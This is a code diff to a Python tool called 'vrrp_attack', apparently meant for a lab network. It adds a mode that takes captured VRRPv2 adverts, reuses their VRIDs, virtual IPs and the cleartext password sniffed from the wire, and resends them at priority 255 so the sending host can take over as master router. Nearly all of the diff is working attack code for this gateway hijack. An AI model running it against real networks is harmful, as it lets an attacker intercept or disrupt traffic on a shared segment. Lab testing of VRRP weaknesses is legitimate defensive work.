@@ -6,6 +6,10 @@ time, and sends only to the VRRP multicast group 224.0.0.18 on the lab bridge.
 
   send    --vrid N [--vrid M] --priority 255 [--password PW] --vip A [--vip B]
           --count C --interval S         VRRPv2 adverts from this host's own address
+  send    --from-capture FILE --priority 255 [--password PW] --count C --interval S
+                                         the pair's own adverts as captured (VRIDs, VIPs
+                                         and the cleartext password seen on the wire), but
+                                         with another priority (and password, if given)
   capture --seconds S --out FILE         the VRRP adverts seen on the segment (JSON lines)
   replay  --in FILE --count C --interval S   sends the captured adverts again, unchanged
 
@@ -59,6 +63,19 @@ def parse_v2(payload: bytes) -> dict:
     return {"version": ver_type >> 4, "vrid": vrid, "priority": prio, "count": count}
 
 
+def from_capture(payload: bytes, priority: int, password: str | None = None) -> bytes:
+    """A captured VRRPv2 advert with another priority (and password): what an attacker who
+    saw one advert sends. The VIPs and, unless given, the cleartext password are the pair's."""
+    if payload[0] >> 4 != 2:
+        raise ValueError("not a VRRPv2 advert")
+    count, auth_type, adv = payload[3], payload[4], payload[5]
+    vips = [str(ipaddress.IPv4Address(payload[8 + 4 * i : 12 + 4 * i])) for i in range(count)]
+    auth = payload[8 + 4 * count : 16 + 4 * count]
+    if password is None:
+        password = auth.rstrip(b"\0").decode("ascii") if auth_type == 1 else None
+    return advert_v2(payload[1], priority, vips, password, adv)
+
+
 def _sender(ttl: int = 255) -> socket.socket:
     s = socket.socket(socket.AF_INET, socket.SOCK_RAW, VRRP_PROTO)
     s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, ttl)
@@ -71,7 +88,17 @@ def cmd_send(a: argparse.Namespace) -> dict:
     deadline = time.monotonic() + MAX_SECONDS
     s = _sender()
     sent = 0
-    packets = [advert_v2(v, a.priority, a.vip, a.password) for v in a.vrid]
+    if a.from_capture:
+        with open(a.from_capture) as f:
+            caps = [bytes.fromhex(json.loads(line)["payload"]) for line in f if line.strip()]
+        by_vrid = {c[1]: c for c in caps if c[0] >> 4 == 2}
+        packets = [from_capture(c, a.priority, a.password) for _, c in sorted(by_vrid.items())]
+    else:
+        if not a.vrid or not a.vip:
+            raise SystemExit("send: --vrid and --vip, or --from-capture")
+        packets = [advert_v2(v, a.priority, a.vip, a.password) for v in a.vrid]
+    if not packets:
+        return {"sent": 0, "error": "no VRRPv2 advert in the capture"}
     for _ in range(count):
         for p in packets:
             s.sendto(p, (VRRP_GROUP, 0))
@@ -79,7 +106,7 @@ def cmd_send(a: argparse.Namespace) -> dict:
         if time.monotonic() > deadline:
             break
         time.sleep(a.interval)
-    return {"sent": sent, "vrids": a.vrid, "priority": a.priority, "password": a.password is not None}
+    return {"sent": sent, "vrids": sorted({p[1] for p in packets}), "priority": a.priority, "own_password": a.password is not None}
 
 
 def _listener() -> socket.socket:
@@ -131,10 +158,11 @@ def main(argv: list[str]) -> int:
     p = argparse.ArgumentParser(prog="vrrp_attack")
     sub = p.add_subparsers(dest="cmd", required=True)
     s = sub.add_parser("send")
-    s.add_argument("--vrid", type=int, action="append", required=True)
+    s.add_argument("--vrid", type=int, action="append")
+    s.add_argument("--from-capture")
     s.add_argument("--priority", type=int, default=255)
     s.add_argument("--password")
-    s.add_argument("--vip", action="append", required=True)
+    s.add_argument("--vip", action="append")
     s.add_argument("--count", type=int, default=16)
     s.add_argument("--interval", type=float, default=0.5)
     c = sub.add_parser("capture")
